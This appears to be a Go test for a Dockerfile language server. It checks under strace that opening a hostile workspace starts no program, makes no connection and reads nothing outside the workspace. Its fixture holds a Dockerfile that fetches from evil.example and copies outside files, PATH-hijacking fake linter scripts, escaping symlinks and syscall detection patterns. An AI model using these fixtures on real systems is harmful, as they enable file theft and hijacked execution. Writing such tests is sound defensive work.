package main

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// hostileFiles are a workspace whose files would like to be more than text. %s is a
// folder outside.
var hostileFiles = map[string]string{
	"ws/Dockerfile": "# syntax=evil.example/frontend\nFROM evil.example/image AS base\nADD https://evil.example/x /x\n" +
		"ADD https://github.com/evil/evil.git#main /src\nCOPY ../secret /a\nCOPY %[1]s/secret /b\nCOPY link/secret /c\nCOPY out /d\n" +
		"COPY --from=evil.example/other /e /e\nRUN touch %[1]s/made && evil\nRUN --mount=type=bind,source=../secret,target=/x cat /x\n" +
		"RUN --mount=type=secret,id=s,target=%[1]s/secret cat\nSHELL [\"%[1]s/evil\", \"-c\"]\nRUN x\nENTRYPOINT [\"%[1]s/evil\"]\n" +
		"ENV PATH=%[1]s:$PATH\nCOPY <<E %[1]s/made\n$(%[1]s/evil)\nE\n",
	"ws/near":        "",
	"evil":           "#!/bin/sh\ntouch %[1]s/made\n",
	"secret":         "s",
	"shellcheck":     "#!/bin/sh\ntouch %[1]s/made\n",
	"hadolint":       "#!/bin/sh\ntouch %[1]s/made\n",
	"secrets/ignore": "*\n",
}

// Opening a Dockerfile and asking all about it, with ShellCheck turned off, starts no
// program, connects to nothing, writes nothing, and reads nothing outside of the workspace but settings
// files of the folders above it. The system itself is the witness.
func TestOpeningIsHarmless(t *testing.T) {
	strace, err := exec.LookPath("strace")
	if err != nil {
		t.Skip("strace is not installed: what the source may do is held by TestReach of package server")
	}
	outside, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for name, content := range hostileFiles {
		path := filepath.Join(outside, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(strings.ReplaceAll(content, "%[1]s", outside)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	ws := filepath.Join(outside, "ws")
	for link, target := range map[string]string{
		"out": "../secret", "link": outside, ".dockerignore": "../secrets/ignore", "other.Dockerfile": "../secret", "loop": "loop",
	} {
		if err := os.Symlink(target, filepath.Join(ws, link)); err != nil {
			t.Fatal(err)
		}
	}
	log := filepath.Join(t.TempDir(), "log")
	serve := slipway(t, "serve")
	c := exec.CommandContext(t.Context(), strace, append([]string{
		"-f", "-qq", "-s", "4096", "-o", log, "-e", "trace=%file,%network,%process,write",
	}, serve.Args...)...)
	c.Env = append(os.Environ(), "BE_SLIPWAY=1", "PATH="+outside+":"+os.Getenv("PATH"))
	askAll(t, c, ws)
	if _, err := os.Stat(filepath.Join(outside, "made")); err == nil {
		t.Error("something was run")
	}
	calls, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	checkCalls(t, string(calls), ws)
}

// askAll opens the Dockerfile of a workspace and asks every question at each line.
func askAll(t *testing.T, c *exec.Cmd, ws string) {
	t.Helper()
	in, out := startPiped(t, c)
	src, err := os.ReadFile(filepath.Join(ws, "Dockerfile"))
	if err != nil {
		t.Fatal(err)
	}
	text := strings.NewReplacer("\\", `\\`, "\"", `\"`, "\n", `\n`).Replace(string(src))
	document := `"textDocument":{"uri":"file://` + ws + `/Dockerfile"`
	send(t, in, `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"processId":null,"rootUri":"file://`+ws+
		`","initializationOptions":{"lint":{"shellcheck":"off"}},"capabilities":{"textDocument":{"diagnostic":{},"codeAction":{"codeActionLiteralSupport":{"codeActionKind":{"valueSet":[""]}}}}}}}`)
	send(t, in, `{"jsonrpc":"2.0","method":"initialized","params":{}}`)
	send(t, in, `{"jsonrpc":"2.0","method":"textDocument/didOpen","params":{`+document+`,"languageId":"dockerfile","version":1,"text":"`+text+`"}}}`)
	id := 1
	ask := func(method, params string) {
		id++
		send(t, in, fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"%s","params":{%s}}`, id, method, params))
	}
	for line := range strings.Count(string(src), "\n") {
		for _, column := range []int{1, 9} {
			place := fmt.Sprintf(`{"line":%d,"character":%d}`, line, column)
			for _, method := range []string{"hover", "completion", "definition", "references", "signatureHelp", "selectionRange", "prepareRename"} {
				ask("textDocument/"+method, document+`},"context":{"includeDeclaration":true},"position":`+place+`,"positions":[`+place+`]`)
			}
			ask("textDocument/codeAction", document+`},"context":{"diagnostics":[]},"range":{"start":`+place+`,"end":`+place+`}`)
		}
	}
	for _, method := range []string{"diagnostic", "documentLink", "codeLens", "foldingRange", "documentSymbol", "semanticTokens/full"} {
		ask("textDocument/"+method, document+"}")
	}
	ask("workspace/symbol", `"query":"base"`)
	ask("workspace/diagnostic", `"previousResultIds":[]`)
	send(t, in, `{"jsonrpc":"2.0","id":0,"method":"shutdown"}`)
	r := bufio.NewReader(out)
	for answered := 0; answered < id+1; {
		if m := receive(t, r); strings.Contains(m, `"id":`) {
			answered++
			if strings.Contains(m, `"error":{`) && !strings.Contains(m, "-32803") {
				t.Errorf("%.300s", m)
			}
		}
	}
	send(t, in, `{"jsonrpc":"2.0","method":"exit"}`)
	in.Close()
	io.Copy(io.Discard, out)
	if err := c.Wait(); err != nil {
		t.Error(err)
	}
}

var (
	opened  = regexp.MustCompile(`\bopen(?:at|at2)?\((?:[^,]*, )?"([^"]*)", ([A-Z_|0-9]+)`)
	harmful = regexp.MustCompile(`^\d+ +(socket|connect|bind|sendto|fork|vfork|unlink|rename|mkdir|rmdir|symlink|link|chmod|chown|truncate|creat)(at2?|at)?\(`)
	started = regexp.MustCompile(`\bexecve(at)?\(`)
)

// checkCalls reads what strace saw.
func checkCalls(t *testing.T, calls, ws string) {
	t.Helper()
	runs := 0
	for line := range strings.Lines(calls) {
		if started.MatchString(line) {
			runs++
		}
		if harmful.MatchString(line) {
			t.Error(line)
		}
		m := opened.FindStringSubmatch(line)
		if m == nil || strings.Contains(line, "ENOENT") {
			continue
		}
		path, flags := m[1], m[2]
		ofSystem := path == os.Args[0] || slices.ContainsFunc([]string{"/proc/self/", "/sys/", "/etc/ld.so", "/lib/", "/usr/lib/", "/dev/null", "/usr/share/zoneinfo", "/etc/localtime"},
			func(p string) bool { return strings.HasPrefix(path, p) })
		inside := path == ws || strings.HasPrefix(path, ws+"/")
		if !ofSystem && !inside || strings.Contains(flags, "O_WRONLY") || strings.Contains(flags, "O_RDWR") && path != "/dev/null" {
			t.Errorf("opened %s", line)
		}
		if real, err := filepath.EvalSymlinks(path); inside && err == nil && real != ws && !strings.HasPrefix(real, ws+"/") {
			t.Errorf("opened a link that leads out: %s", line)
		}
	}
	if runs != 1 {
		t.Errorf("%d programs were started, want the server alone", runs)
	}
	if !strings.Contains(calls, ws+"/Dockerfile") {
		t.Error("strace has not seen the Dockerfile being looked for")
	}
}
